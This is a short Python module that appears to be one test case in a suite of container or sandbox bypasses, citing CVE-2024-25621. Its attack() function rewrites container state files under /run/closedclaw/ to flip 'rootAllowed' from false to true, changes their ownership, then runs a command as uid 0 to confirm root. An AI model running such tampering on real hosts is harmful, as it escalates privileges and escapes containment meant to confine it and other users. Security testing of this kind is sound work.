"""The record of what a container is held to belongs to another user, who writes that it may run as root."""

import glob
import os

from bypass import refused

SOURCE = "idea; CVE-2024-25621: modes of an engine's directories"
WAY = "state"
STOPPED = refused("state")


def attack(t):
    t.up()
    for path in glob.glob("/run/closedclaw/*/%s.json" % t.id):
        t.write(path, t.read(path).replace('"rootAllowed":false', '"rootAllowed":true'), 0o600)
        os.chown(path, 1000, 1000)
    return t.exec("id -u", user={"uid": 0, "gid": 0}).strip() == "0" and "uid 0"
